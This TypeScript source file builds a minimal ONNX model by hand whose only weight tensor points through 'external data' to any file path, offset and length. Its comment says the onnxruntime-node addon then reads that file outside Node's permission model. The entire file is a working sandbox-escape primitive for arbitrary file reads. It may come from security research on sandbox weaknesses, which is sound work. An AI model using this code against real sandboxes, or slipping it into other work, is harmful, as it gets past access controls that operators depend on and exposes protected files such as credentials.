// Builds a one-node ONNX model (Identity) whose only initializer is stored as "external data":
// a file path, an offset and a length. onnxruntime-node (a native addon, allowed by the sandbox's
// --allow-addons) reads that file itself, outside Node's permission model.
function varint(n: number | bigint): number[] {
  let v = BigInt(n); const out: number[] = [];
  do { let b = Number(v & 0x7fn); v >>= 7n; if (v > 0n) b |= 0x80; out.push(b); } while (v > 0n);
  return out;
}
const enc = new TextEncoder();
function fVarint(field: number, v: number | bigint): number[] { return [...varint((field << 3) | 0), ...varint(v)]; }
function fBytes(field: number, b: number[] | Uint8Array): number[] { return [...varint((field << 3) | 2), ...varint(b.length), ...b]; }
function fStr(field: number, s: string): number[] { return fBytes(field, [...enc.encode(s)]); }

export function externalReadModel(file: string, offset: number, length: number, elemType = 2 /* UINT8 */): Uint8Array {
  const kv = (k: string, v: string) => fBytes(13, [...fStr(1, k), ...fStr(2, v)]);
  const tensor = [...fVarint(1, length), ...fVarint(2, elemType), ...fStr(8, "w"),
    ...kv("location", file), ...kv("offset", String(offset)), ...kv("length", String(length)), ...fVarint(14, 1)];
  const node = [...fStr(1, "w"), ...fStr(2, "y"), ...fStr(3, "n"), ...fStr(4, "Identity")];
  const dim = fBytes(1, fVarint(1, length));
  const vtype = fBytes(2, fBytes(1, [...fVarint(1, elemType), ...fBytes(2, dim)]));
  const out = [...fStr(1, "y"), ...vtype];
  const graph = [...fBytes(1, node), ...fStr(2, "g"), ...fBytes(5, tensor), ...fBytes(12, out)];
  const model = [...fVarint(1, 8), ...fStr(2, "x"), ...fBytes(7, graph), ...fBytes(8, [...fStr(1, ""), ...fVarint(2, 17)])];
  return new Uint8Array(model);
}
